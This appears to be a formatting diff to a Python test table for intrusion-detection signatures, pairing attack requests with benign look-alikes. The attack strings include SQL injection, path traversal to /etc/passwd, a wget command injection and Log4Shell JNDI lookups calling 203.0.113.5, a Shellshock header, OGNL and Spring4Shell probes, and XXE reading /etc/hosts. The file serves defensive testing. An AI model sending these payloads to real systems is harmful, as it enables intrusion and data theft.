@@ -20,7 +20,9 @@ def _posted(bad: bytes, good: bytes, target: str = "/form") -> Case:
 
 def _told(bad: bytes, good: bytes) -> Case:
     """A page that alerts, one that does not."""
-    return Case(lambda: answered(80, page(bad), asked=get("/")), lambda: answered(80, page(good), asked=get("/")))
+    return Case(
+        lambda: answered(80, page(bad), asked=get("/")), lambda: answered(80, page(good), asked=get("/"))
+    )
 
 
 def _header(bad: str, good: str) -> Case:
@@ -35,7 +37,10 @@ CASES = {
     9000304: _asked("/p?id=1%20from%20information_schema.tables", "/schema/information"),
     9000305: _agent("sqlmap/1.8.9#stable (https://sqlmap.org)", "curl/8.11.0 sqlmap"),
     9000306: _asked("/p.asp?id=1;exec%20xp_cmdshell%20%27dir%27", "/docs/cmdshell"),
-    9000307: _told(b"<b>You have an error in your SQL syntax; check the manual</b>", b"<b>You have an error in your form</b>"),
+    9000307: _told(
+        b"<b>You have an error in your SQL syntax; check the manual</b>",
+        b"<b>You have an error in your form</b>",
+    ),
     9000310: _asked("/get?f=../../../etc/hosts", "/get?f=../a/../b/c"),
     9000311: _asked("/get?f=%2e%2e%2f%2e%2E%2fboot.ini", "/get?f=v1%2e2%2fnotes"),
     9000312: _asked("/get?f=/etc/passwd", "/wiki/password-policy"),
@@ -48,9 +53,14 @@ CASES = {
     9000319: _asked("/cgi?a=1;wget%20http://203.0.113.5/x", "/tools/wget-for-windows"),
     9000320: _header("X-Api-Version: ${jndi:ldap://203.0.113.5/a}\r\n", "X-Api-Version: {jndi}\r\n"),
     9000321: _header("X-Id: ${${lower:j}ndi:ldap://203.0.113.5/a}\r\n", "X-Id: ${${name}}\r\n"),
-    9000322: _header("Referer: () { :;}; /bin/ping -c1 203.0.113.5\r\n", "Referer: http://x/js?f=function() { return 1 }\r\n"),
+    9000322: _header(
+        "Referer: () { :;}; /bin/ping -c1 203.0.113.5\r\n",
+        "Referer: http://x/js?f=function() { return 1 }\r\n",
+    ),
     9000323: _posted(b"class.module.classLoader.resources.context.parent=x", b"class=module&loader=x"),
-    9000324: _header("Content-Type: %{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}\r\n", "Content-Type: text/plain\r\n"),
+    9000324: _header(
+        "Content-Type: %{(#_memberAccess=@ognl.OgnlContext@DEFAULT)}\r\n", "Content-Type: text/plain\r\n"
+    ),
     9000325: _asked("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/docs/phpunit"),
     9000326: _posted(
         b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hosts">]><a>&x;</a>',
